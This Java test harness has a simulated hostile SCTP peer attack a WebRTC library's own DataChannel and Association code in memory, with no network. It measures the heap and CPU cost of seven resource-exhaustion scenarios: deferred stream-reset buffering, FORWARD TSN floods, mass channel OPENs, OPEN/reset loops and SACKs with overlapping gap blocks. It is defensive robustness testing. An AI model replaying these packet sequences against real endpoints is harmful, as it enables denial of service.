import dev.jvmrtc.wire.LentBytes;
import dev.jvmrtc.core.*;
import dev.jvmrtc.datachannel.*;
import dev.jvmrtc.sctp.*;
import dev.jvmrtc.sctp.packet.*;
import dev.jvmrtc.wire.*;
import java.util.*;
import java.util.function.*;

/**
 * Without I/O: a hostile SCTP peer against DataChannels and Association. {@code deferred 1100 60000}, {@code forever 1100 3}, {@code forward}, {@code streams},
 * {@code channels 65000 400 500}, {@code openloop 200000}, {@code sack}. Right: what is held stays within the receive buffer, a packet costs about its size.
 */
public class SctpAttacks {
    static final PacketFormat F = new PacketFormat(5000, 5000);
    static final int TAG = 0x11223344, T0 = 1000;
    static final Extensions PLAIN = new Extensions(true, true, false, false, false);
    static final Extensions INTER = new Extensions(true, true, false, true, false);
    long now = 1_000_000_000L;
    DataChannels us = new DataChannels(SctpConfig.of(5000, 5000), false, RandomSource.seeded(1), -1);
    ArrayDeque<byte[]> out = new ArrayDeque<>();
    int ourTag, ourFirst; byte[] cookie; long wire, packets; long evs;
    boolean keepOut = true; Map<String,Long> evc = new TreeMap<>();

    void say(int tag, Consumer<ByteWriter> c) {
        ByteWriter w = new ByteWriter(1 << 15);
        F.start(w, tag); c.accept(w); F.finish(w);
        wire += w.length(); packets++;
        us.handlePacket(now, LentBytes.of(w.array(), 0, w.length()));
        us.drain(now, (d, o, n) -> { if (keepOut) out.add(Arrays.copyOfRange(d, o, o + n)); });
        for (DataChannelEvent e = us.pollEvent(); e != null; e = us.pollEvent()) { evs++; evc.merge(e.getClass().getSimpleName(), 1L, Long::sum); }
    }
    void say(Consumer<ByteWriter> c) { say(ourTag, c); }
    void connect(Extensions x) throws Exception {
        say(0, w -> new Chunk.Init(false, TAG, 1 << 20, 65535, 65535, T0, x, null).write(w));
        byte[] p = out.poll();
        ByteReader r = new ByteReader(p, 12, p.length - 12); r.u8(); r.u8(); int n = r.u16();
        Chunk.Init ack = (Chunk.Init) Chunk.parse(2, r.slice(n - 4));
        ourTag = ack.initiateTag(); ourFirst = ack.initialTsn(); cookie = ack.cookie();
        say(w -> new Chunk.CookieEcho(cookie).write(w));
        if (us.association().state() != AssociationState.ESTABLISHED) throw new Error();
        out.clear(); wire = packets = 0; keepOut = false;
    }
    static void data(ByteWriter w, boolean inter, int flags, int tsn, int stream, int number, int frag, int ppid, byte[] payload) {
        DataHeader.write(w, inter, flags, payload.length, tsn, stream, number, ppid, frag);
        w.bytes(payload).padTo4();
    }
    static long heap() { for (int i = 0; i < 3; i++) System.gc(); Runtime r = Runtime.getRuntime(); return r.totalMemory() - r.freeMemory(); }
    static byte[] req(int seq, int lastTsn, int... streams) {
        ByteWriter w = new ByteWriter().u32(seq).u32(0).u32(lastTsn); for (int s : streams) w.u16(s); return w.toByteArray();
    }
    void reset(int seq, int last, int... s) { say(w -> new Chunk.ReConfig(List.of(new Chunk.Parameter(13, req(seq, last, s)))).write(w)); }

    // 1. data that waits for a deferred stream reset is not counted against the receive window
    void deferred(int payload, int count) throws Exception {
        connect(PLAIN);
        long h0 = heap();
        reset(T0, T0 + 0); // lastTsn = T0, which never comes: everything after it waits
        byte[] b = new byte[payload];
        int tsn = T0 + 1;
        for (int i = 0; i < count; i++, tsn++) { int t = tsn; say(w -> data(w, false, 3, t, 7, 0, 0, 53, b)); }
        var s = us.association().snapshot();
        System.out.printf("deferred: %d chunks x %d, wire %.1f MB; state %s, heldBytes %d, advertised window still %d; heap +%.1f MB%n", count, payload, wire / 1e6,
            s.state(), s.heldBytes(), 4 << 20, (heap() - h0) / 1e6);
    }
    // 2. the same, repeated for ever: a second reset request overwrites the first, and its data is never looked at again
    void deferredForever(int payload, int rounds) throws Exception {
        connect(PLAIN);
        long h0 = heap();
        int seq = T0, tsn = T0;
        byte[] b = new byte[payload];
        for (int round = 0; round < rounds; round++) {
            int hole = tsn;
            reset(seq++, hole);
            for (int i = 1; i <= 60_000; i++) { int t = hole + i; say(w -> data(w, false, 3, t, 7, 0, 0, 53, b)); }
            reset(seq++, hole - 1);                                 // "performed": deferred = null, waiting data stays
            say(w -> data(w, false, 3, hole, 9, 0, 0, 99, b));        // closes the hole; unknown ppid, consumed at once
            tsn = hole + 60_001;
            var s = us.association().snapshot();
            System.out.printf("round %d: wire %.0f MB, heldBytes %d, heap +%.0f MB, state %s%n", round, wire / 1e6, s.heldBytes(), (heap() - h0) / 1e6, s.state());
        }
    }
    // 3. FORWARD TSN over 65,536 unordered streams
    void forwardCpu() throws Exception {
        connect(PLAIN);
        int tsn = T0;
        byte[] one = new byte[1];
        long h0 = heap(), t0 = System.nanoTime();
        for (int s = 0; s < 65536; s += 30) {
            int from = s, t = tsn;
            say(w -> { for (int k = 0; k < 30 && from + k < 65536; k++) { data(w, false, 4 | 2, t + 2 * k, from + k, 0, 0, 99, one); data(w, false, 4 | 1, t + 2 * k + 1, from + k, 0, 0, 99, one); } });
            tsn += 2 * Math.min(30, 65536 - s);
        }
        System.out.printf("setup: %d packets, wire %.2f MB, %.0f ms, heap +%.1f MB, state %s%n", packets, wire / 1e6, (System.nanoTime() - t0) / 1e6, (heap() - h0) / 1e6, us.association().state());
        for (int round = 0; round < 5; round++) {
            int t = tsn; long before = System.nanoTime(); long w0 = wire;
            say(w -> { for (int k = 0; k < 128; k++) new Chunk.ForwardTsn(false, t + k, new Chunk.Skipped[0]).write(w); });
            tsn += 128;
            System.out.printf("one packet of %d bytes with 128 FORWARD TSN: %.0f ms of the event loop%n", wire - w0, (System.nanoTime() - before) / 1e6);
        }
    }
    // 4. memory of state per stream
    void streamState() throws Exception {
        connect(INTER);
        long h0 = heap(); int tsn = T0; byte[] one = new byte[1];
        for (int s = 0; s < 65536; s += 30) { int from = s, t = tsn;
            say(w -> { for (int k = 0; k < 30 && from + k < 65536; k++) data(w, true, 3, t + k, from + k, 0, 0, 99, one); });
            tsn += Math.min(30, 65536 - s); }
        System.out.printf("ordered, whole, consumed: wire %.2f MB, heap +%.1f MB, held %d%n", wire / 1e6, (heap() - h0) / 1e6, us.association().snapshot().heldBytes());
        for (int s = 0; s < 65536; s += 30) { int from = s, t = tsn;
            say(w -> { for (int k = 0; k < 30 && from + k < 65536; k++) data(w, true, 4 | 2, t + k, from + k, 5, 0, 99, one); });
            tsn += Math.min(30, 65536 - s); }
        System.out.printf("+ unordered, unfinished: wire %.2f MB, heap +%.1f MB, held %d state %s%n", wire / 1e6, (heap() - h0) / 1e6, us.association().snapshot().heldBytes(), us.association().state());
    }
    static byte[] open(int labelLen, int protoLen) {
        ByteWriter w = new ByteWriter().u8(3).u8(0).u16(0).u32(0).u16(labelLen).u16(protoLen);
        for (int i = 0; i < labelLen + protoLen; i++) w.u8('x');
        return w.toByteArray();
    }
    // 5. 65k channels
    void channels(int label, int proto, int n) throws Exception {
        connect(PLAIN);
        long h0 = heap(); int tsn = T0; byte[] o = open(label, proto); long t0 = System.nanoTime();
        int per = Math.max(1, Math.min(40, 1100 / (o.length + 16)));
        for (int s = 0; s < n; s += per) { int from = s, t = tsn;
            if (o.length < 16000) say(w -> { for (int k = 0; k < per && from + k < n; k++) data(w, false, 3, t + k, from + k, 0, 0, 50, o); });
            else { int at = 0; int tt = t; while (at < o.length) { int len = Math.min(16000, o.length - at); byte[] part = Arrays.copyOfRange(o, at, at + len); int fl = (at == 0 ? 2 : 0) | (at + len == o.length ? 1 : 0); int q = tt; say(w -> data(w, false, fl, q, from, 0, 0, 50, part)); tt++; at += len; } tsn = tt - 1; }
            tsn += Math.min(per, n - s); }
        System.out.printf("channels: %d of label %d, protocol %d: wire %.2f MB, %.0f ms, events %s, heap +%.1f MB, state %s%n", n, label, proto, wire / 1e6, (System.nanoTime() - t0) / 1e6, evc, (heap() - h0) / 1e6, us.association().state());
    }
    // 6. OPEN, reset, OPEN, reset on one stream, answering nothing: our ACKs and events pile up
    void openLoop(int cycles) throws Exception {
        connect(PLAIN);
        long h0 = heap(); int tsn = T0, seq = T0; byte[] o = open(1, 0);
        for (int i = 0; i < cycles; i++) {
            int t = tsn++, q = seq++;
            say(w -> { data(w, false, 3, t, 4, 0, 0, 50, o); new Chunk.ReConfig(List.of(new Chunk.Parameter(13, req(q, t, 4)))).write(w); });
            if (i % 1000 == 0) { now += 100_000_000L; us.handleTimeout(now); say(w -> Sack.write(w, ourFirst - 1, 1 << 20, 0, 0)); } // an old SACK keeps the association alive
        }
        System.out.printf("openLoop: %d cycles, wire %.1f MB, heap +%.1f MB, buffered %d, events %s, state %s drops %s%n", cycles, wire / 1e6, (heap() - h0) / 1e6, us.association().snapshot().bufferedBytes(), evc, us.association().state(), us.drops().snapshot());
    }
    // 7. SACK with many overlapping gap blocks against 16,384 chunks in flight
    void sackCpu() throws Exception {
        connect(PLAIN);
        us.open(1, new ChannelParameters("x", "", true, null, null, true), 5);
        for (int i = 0; i < 40_000; i++) us.send(now, 1, true, new byte[1]);
        // make the window large by honest acks first
        long sent = 0; keepOut = true; int acked = ourFirst - 1;
        for (int i = 0; i < 4000; i++) {
            now += 2_000_000L; us.handleTimeout(now);
            us.drain(now, (d, o, n) -> { });
            int in = us.association().snapshot().flightChunks();
            if (in > 12_000) break;
            int a = acked;
            say(w -> Sack.write(w, a, 64 << 20, 0, 0));
            if (i % 3 == 0 && in > 2) { acked += Math.max(1, in / 20); for (int k = 0; k < in / 10; k++) us.send(now, 1, true, new byte[1]); }
        }
        out.clear(); keepOut = false;
        var s = us.association().snapshot();
        System.out.printf("in flight: %d chunks, cwnd %d, buffered %d%n", s.flightChunks(), s.congestionWindow(), s.bufferedBytes());
        for (int round = 0; round < 3; round++) {
            int a = acked; long t0 = System.nanoTime(); long w0 = wire;
            say(w -> { Sack.write(w, a, 64 << 20, 280, 0); for (int k = 0; k < 280; k++) w.u16(2).u16(65535); });
            System.out.printf("SACK of %d bytes, 280 overlapping blocks: %.1f ms%n", wire - w0, (System.nanoTime() - t0) / 1e6);
            t0 = System.nanoTime(); w0 = wire;
            say(w -> { Sack.write(w, a, 64 << 20, 4000, 0); for (int k = 0; k < 4000; k++) w.u16(2).u16(65535); });
            System.out.printf("SACK of %d bytes, 4000 overlapping blocks: %.1f ms state %s%n", wire - w0, (System.nanoTime() - t0) / 1e6, us.association().state());
        }
    }
    public static void main(String[] a) throws Exception {
        SctpAttacks x = new SctpAttacks();
        switch (a[0]) {
            case "deferred" -> x.deferred(Integer.parseInt(a[1]), Integer.parseInt(a[2]));
            case "forever" -> x.deferredForever(Integer.parseInt(a[1]), Integer.parseInt(a[2]));
            case "forward" -> x.forwardCpu();
            case "streams" -> x.streamState();
            case "channels" -> x.channels(Integer.parseInt(a[1]), Integer.parseInt(a[2]), Integer.parseInt(a[3]));
            case "openloop" -> x.openLoop(Integer.parseInt(a[1]));
            case "sack" -> x.sackCpu();
        }
    }
}
